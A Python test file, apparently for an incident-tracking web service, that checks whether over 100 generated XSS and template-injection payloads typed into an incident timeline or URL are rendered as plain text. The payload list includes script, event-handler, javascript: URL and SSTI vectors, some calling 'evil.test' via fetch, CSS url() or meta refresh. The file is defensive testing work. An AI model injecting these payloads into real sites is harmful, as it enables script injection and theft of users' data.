"""A page says what people typed, and does nothing else with it (threat T19)."""

import itertools
from html.parser import HTMLParser
from urllib.parse import quote

from tests.api.conftest import Served
from tests.support.incidents import an_outage
from watchdog.model.incident import EventKind, IncidentEvent
from watchdog.model.outage import Phase, Reason
from watchdog.model.text import Text
from watchdog.storage import incidents

WHAT = ("alert(1)", "fetch('//evil.test')", "document.title=1", "import('data:,x')", "x=1")
HOW = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg/onload={}>",
    "<a href=javascript:{}>klicka</a>",
    '"><script>{}</script>',
    "'><iframe srcdoc='<script>{}</script>'>",
    "</time></li></ol><form action=//evil.test><input name=x value='{}'><button>",
    "<style>*{{background:url('//evil.test?{}')}}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.test/{}'>",
    "{{{{ {} }}}}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}{}{{% endfor %}}",
    "<!--{}--><base href=//evil.test>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "<ScRiPt\n>{}</sCrIpT >",
    "<math><mtext></p><script>{}</script>",
    "<details open ontoggle={}>",
    "\u202e<script>{}</script>",
    "</title><script>{}</script>",
    "<object data=javascript:{}>",
    "<template><script>{}</script></template>",
)
PAYLOADS = [how.format(what) for how, what in itertools.product(HOW, WHAT)]


class Seen(HTMLParser):
    """The elements of a page with the names of their attributes, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, ...]] = []
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, *(name for name, _ in attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


async def _page(served: Served, typed: list[str]) -> Seen:
    """The page of an incident in whose timeline people have typed this."""
    now = served.runtime.clock.now()
    incident = an_outage(
        now,
        id="inc_typed",
        path="sas_om_ris",
        scenario="om_or_ris_down",
        reason=Reason.DECLARED_BY_HAND,
        number=len(typed),
    )
    events = [
        IncidentEvent(
            incident=incident.id,
            number=number,
            kind=EventKind.DECLARED,
            at=now,
            because=Text(text, text),
            evidence=Text(text, text),
            by=text,
        )
        for number, text in enumerate(typed, 1)
    ]
    async with served.runtime.database.transaction() as db:
        await incidents.save(db, incident, events)
    answer = await served.http.get(f"/incidents/{incident.id}")
    assert answer.status_code == 200, answer.text
    policy = answer.headers["content-security-policy"]
    assert "default-src 'none'" in policy or "default-src 'self'" in policy
    assert "unsafe-inline" not in policy
    return Seen(answer.text)


async def test_a_hundred_typed_attacks_are_text_and_add_no_element(served: Served) -> None:
    served.publish(Phase.CLEAR, Reason.ARRIVING)
    assert len(set(PAYLOADS)) >= 100
    harmless = await _page(served, ["RIS står stilla"])
    once = len(harmless.elements)
    attacked = await _page(served, ["RIS står stilla", *PAYLOADS])
    row = harmless.elements[harmless.elements.index(("li",)) :][:4]
    assert row == [("li",), ("time",), ("strong",), ("br",)]
    # nothing but a row more for each, of the same elements
    assert len(attacked.elements) == once + 5 * len(PAYLOADS)
    assert {element[0] for element in attacked.elements} == {e[0] for e in harmless.elements}
    for payload in PAYLOADS:
        assert payload in attacked.text


async def test_an_address_with_an_attack_is_a_problem_and_no_page(served: Served) -> None:
    for payload in PAYLOADS:
        answer = await served.http.get(f"/incidents/{quote(payload, safe='')}")
        assert answer.status_code in (404, 503), payload
        assert "html" not in answer.headers["content-type"]
